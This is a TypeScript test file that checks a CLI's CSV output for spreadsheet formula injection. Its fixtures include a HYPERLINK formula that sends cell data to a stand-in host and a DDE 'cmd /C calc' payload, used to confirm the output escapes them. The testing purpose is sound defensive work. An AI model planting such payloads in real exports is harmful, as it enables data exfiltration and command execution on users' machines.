import assert from "node:assert/strict";
import { mkdtempSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { runCli } from "../support/run-cli";

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)$/;

/** Each row's Notes (an unknown column, echoed as is) and ID hold what a spreadsheet would run as a formula. */
const HOSTILE = [
  ['=HYPERLINK("http://example.invalid/?d="&A2,"Open")', "=1+1"],
  ["+SUM(1,2)", "+44 20 7946 0000"],
  ["-2+3", "-cmd|' /C calc'!A0"],
  ["@SUM(1)", "@handle"],
  ["\t=1+1", "\tindented"],
  ["\r=1+1", "\rcarriage"],
];
const NUMBERS = ["-5", "-0.25", "+7", "-.5"];

describe("sotp route CSV output and formula injection", () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), "sotp-inject-"));
  const input = path.join(dir, "hostile.csv");
  const header = ["ID", "Offence", "RM2000/s", "OGRS3", "Notes", "Site"];
  const rows = [
    ...HOSTILE.map(([id, notes], i) => [id, "Contact", "Low", "60", notes, `Site ${i}`]),
    ...NUMBERS.map((n, i) => [`N${i}`, "Contact", "Low", "60", n, n]),
    ["BAD1", "=cmd()", "-High", "@60", "x", "=Site"],
  ];
  writeFileSync(input, stringify([header, ...rows]));
  const run = runCli(["route", input, "--as-of", "2014-01-01"]);
  const [outHeader, ...outRows] = parse(run.stdout, { relax_column_count: true }) as string[][];
  const column = (name: string) => outHeader.indexOf(name);

  it("routes the file", () => {
    assert.equal(run.status, 0, run.stderr);
    assert.equal(outRows.length, rows.length);
  });

  it("prefixes an apostrophe to input cells starting with =, +, -, @, tab or CR", () => {
    HOSTILE.forEach(([id, notes], i) => {
      assert.equal(outRows[i][column("ID")], `'${id}`);
      assert.equal(outRows[i][column("Notes")], `'${notes}`);
    });
  });

  it("leaves plain signed numbers alone", () => {
    NUMBERS.forEach((n, i) => {
      const row = outRows[HOSTILE.length + i];
      assert.deepEqual([row[column("Notes")], row[column("Site")]], [n, n]);
    });
  });

  it("routes the hostile rows as text (an ID or note never changes routing)", () => {
    const statuses = outRows.slice(0, HOSTILE.length).map((row) => row[column("Status")]);
    assert.deepEqual(statuses, Array(HOSTILE.length).fill("Recommended"));
  });

  it("quotes hostile values inside reasons, never at the start of an output cell", () => {
    const bad = outRows[rows.length - 1];
    assert.equal(bad[column("Status")], "Invalid");
    assert.match(bad[column("Reasons")], /^V-1: Offence "=cmd\(\)" is not accepted/);
    assert.match(bad[column("Reasons")], /OGRS3 "@60" is not accepted/);
    assert.equal(bad[column("Site")], "'=Site");
  });

  it("has no cell anywhere in the output that a spreadsheet would run as a formula", () => {
    for (const cell of [...outHeader, ...outRows.flat()]) {
      assert.ok(!FORMULA_START.test(cell) || PLAIN_NUMBER.test(cell), JSON.stringify(cell));
    }
  });
});
